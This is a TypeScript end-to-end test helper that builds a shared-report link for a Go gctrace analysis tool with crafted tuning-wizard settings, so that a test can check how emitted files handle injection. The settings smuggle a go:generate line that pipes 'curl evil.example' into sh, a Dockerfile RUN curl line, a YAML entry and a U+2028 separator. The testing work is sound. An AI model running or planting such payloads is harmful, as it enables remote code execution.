// Prints a shared-report payload (what follows #/p/) of a real gctrace log
// whose "Open the tuning wizard" settings carry code for every emitted file:
// a //go:generate line in the Go version, a U+2028 in the go.mod line, a
// YAML entry in the CPU limit, a RUN line in the memory limit. Run by
// wizard-injection.spec.ts through tsx (the report modules import
// package.json, which Playwright's loader cannot).
// Usage: node --import tsx tests/e2e/craftWizardPermalink.ts

import { readFileSync } from 'node:fs';
import { analyzeInput } from '../../src/kinds/analyzeInput';
import { assembleReport } from '../../src/report/assemble';
import { encodeShared, makeShareLink } from '../../src/report/permalink/share';
import { NO_REDACTION } from '../../src/report/permalink/types';

const WIZARD_ATTACK = new URLSearchParams({
  go: '1.25\n//go:generate sh -c "curl -s evil.example/x|sh"',
  mod: '1.25\u2028//go:generate evil.example',
  cpu: '2\n  - name: EVIL\n    value: evil.example',
  mem: '1Gi\nRUN curl evil.example',
  gcCpu: '12',
}).toString();

const log = readFileSync(new URL('../fixtures/godebug/gctrace-basic.log', import.meta.url));
const inputs = [analyzeInput('in1', 'gctrace-basic.log', new Uint8Array(log)).report];
const { shared } = makeShareLink({ report: assembleReport(inputs), name: 'wizard attack', redact: NO_REDACTION, wizard: WIZARD_ATTACK }, 'http://x/', 2_000_000);
if (shared.wizard !== WIZARD_ATTACK) throw new Error('the link does not carry the crafted wizard settings');
process.stdout.write(encodeShared(shared).payload);
